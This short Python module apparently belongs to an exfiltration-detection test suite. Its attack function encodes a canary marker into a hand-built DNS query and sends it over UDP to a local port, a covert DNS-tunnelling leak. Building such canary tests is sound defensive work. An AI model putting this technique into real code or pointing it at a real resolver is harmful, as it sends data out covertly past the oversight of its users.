"""Hides data in a look-up of a name."""

import socket
import struct

KIND = "sent"


def attack(canary):
    labels = b"".join(bytes([len(part)]) + part for part in (canary["mark"].encode(), b"example"))
    query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.connect(("127.0.0.1", canary["udp"]))
        link.send(query)
